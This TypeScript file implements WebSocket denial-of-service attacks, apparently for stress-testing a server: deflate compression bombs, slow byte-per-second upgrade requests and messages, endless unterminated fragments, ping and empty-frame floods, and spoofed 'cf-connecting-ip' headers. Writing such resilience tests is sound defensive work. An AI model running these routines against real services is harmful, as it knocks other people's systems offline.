/** Attacks by bytes that no WebSocket of a browser sends. */
import { setTimeout as sleep } from 'node:timers/promises';
import { constants, deflateRawSync } from 'node:zlib';
import { connectTo, frame, opcodes, openRaw, upgradeText } from './raw-socket.ts';
import { type Attack, addressOf, repeat } from './target.ts';

const deflateBombs: Attack = async target => {
  const text = Buffer.alloc(30 * 2 ** 20, ' ');
  // What a message ends with, clients leave out: RFC 7692, section 7.2.1.
  const bomb = frame(deflateRawSync(text, { finishFlush: constants.Z_SYNC_FLUSH }).subarray(0, -4), {
    isCompressed: true,
  });
  return async () => {
    const one = async () => {
      const socket = await openRaw(target, {
        'sec-websocket-extensions': 'permessage-deflate; client_no_context_takeover',
        'cf-connecting-ip': addressOf(0),
      });
      socket?.write(bomb);
      await sleep(500);
      socket?.destroy();
    };
    for (let sent = 0; sent < target.size(60, 280); sent += 20) {
      await Promise.all(Array.from({ length: 20 }, one));
    }
  };
};

const slowRequests: Attack = async target => async () => {
  const text = upgradeText(target, { 'cf-connecting-ip': addressOf(0) });
  const connections = await Promise.all(Array.from({ length: 500 }, () => connectTo(target)));
  await repeat(target.size(5, 15), 1000, n => {
    for (const connection of connections) {
      connection?.write(text.slice(n, n + 1));
    }
  });
};

/** The head of a message of 60,000 bytes, and a byte of it each second. */
const slowMessages: Attack = async target => async () => {
  const message = frame(Buffer.alloc(60_000, ' '));
  const sockets = await Promise.all(
    Array.from({ length: 500 }, () => openRaw(target, { 'cf-connecting-ip': addressOf(0) })),
  );
  await repeat(target.size(5, 15), 1000, n => {
    for (const socket of sockets) {
      socket?.write(n === 0 ? message.subarray(0, 50_000) : message.subarray(50_000 + n, 50_001 + n));
    }
  });
};

/** Messages without an end: each fragment is as large as a message may be. */
const endlessFragments: Attack = async target => async () => {
  const part = Buffer.alloc(60_000, ' ');
  const sockets = await Promise.all(
    Array.from({ length: 100 }, () => openRaw(target, { 'cf-connecting-ip': addressOf(0) })),
  );
  await repeat(target.size(4, 10), 200, n => {
    for (const socket of sockets) {
      const opcode = n === 0 ? opcodes.text : opcodes.continuation;
      if (socket && socket.writableLength < 2 ** 20) {
        socket.write(frame(part, { opcode, fin: false }));
      }
    }
  });
};

/** Binary messages, empty ones, pings, fragments of nothing. */
const oddFrames: Attack = async target => async () => {
  const some = Buffer.concat([
    ...Array.from({ length: 20 }, () => frame(Buffer.alloc(100, 1), { opcode: opcodes.binary })),
    ...Array.from({ length: 50 }, () => frame(Buffer.alloc(125), { opcode: opcodes.ping })),
    ...Array.from({ length: 5 }, () => frame(Buffer.alloc(0))),
    frame(Buffer.alloc(0), { fin: false }),
    ...Array.from({ length: 100 }, () =>
      frame(Buffer.alloc(0), { opcode: opcodes.continuation, fin: false }),
    ),
    frame(Buffer.alloc(0), { opcode: opcodes.continuation }),
  ]);
  const one = async (n: number): Promise<void> => {
    const socket = await openRaw(target, { 'cf-connecting-ip': addressOf(n) });
    const seconds = target.size(4, 12);
    await repeat(seconds, 200, () => {
      if (socket && !socket.destroyed && socket.writableLength < 2 ** 20) {
        socket.write(some);
      }
    });
  };
  await Promise.all(Array.from({ length: 50 }, (_, n) => one(n)));
};

export const frameAttacks: Record<string, Attack> = {
  '280 compressed messages of 30 MiB': deflateBombs,
  '500 requests for a socket, a byte each second': slowRequests,
  '500 messages, a byte each second': slowMessages,
  '100 messages without an end': endlessFragments,
  '50 sockets with binary messages, pings and empty fragments': oddFrames,
};
